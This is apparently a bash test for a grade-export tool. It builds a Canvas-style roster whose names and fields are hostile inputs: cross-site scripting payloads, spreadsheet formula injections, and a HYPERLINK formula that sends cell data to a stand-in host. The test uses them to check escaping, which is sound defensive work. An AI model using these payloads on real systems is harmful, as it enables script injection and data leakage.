# SPDX-License-Identifier: MIT
# For the tests of exports: batch.bash, and a class of people with names that nobody should have.
. tests/batch/batch.bash
[ -x build/bin/exports ] || skip_all "no zlib here"
export NODE_PATH=$root/build/npm/node_modules
has_npm() { command -v node > /dev/null && [ -d "$NODE_PATH/$1" ]; }

# Canvas' own columns; the second line is none of the students'.
printf '%s\r\n' 'Student,ID,SIS User ID,SIS Login ID,Section,"Lesson 01: Sync and async: two moments (4711)"' \
    '    Points Possible,,,,,27' \
    '"</script><script>window.hit=1</script>",101,=1+1,anna,"Mon ""early"", A"' \
    "\"O'Neill, \"\"Ann\"\" & <b>\",102,-2,ben,Tue" \
    '"=HYPERLINK(""http://x.invalid/?""&A1)",103,@sum,carl,+3' \
    $'"Zo\u00eb \u738b\u202e\x01\uffff]]>\nsecond line",104,s104,dora,"\'"><img src=x onerror=window.hit=1>"' \
    '"Student, Test",105,,test,' > "$dir/roster.csv"
hand_in_leaks
hand_in carl 01-sync-vs-async "$solution"
echo 'int x = "</pre><script>window.hit=1</script>";' | cat "$solution" - > "$dir/x.cu"
hand_in dora 01-sync-vs-async "$dir/x.cu"
grade_class() { batch --seed 719320533 --lessons 1 --roster "$dir/roster.csv" "$@"; }
# prints_nothing COMMAND...: what it prints is told.
prints_nothing() { local said; said=$("$@" 2>&1); [ -z "$said" ] || { sed 's/^/# /' <<< "$said"; false; }; }
read_back() { prints_nothing python3 tests/export/read.py "$dir/grades" "$1"; }
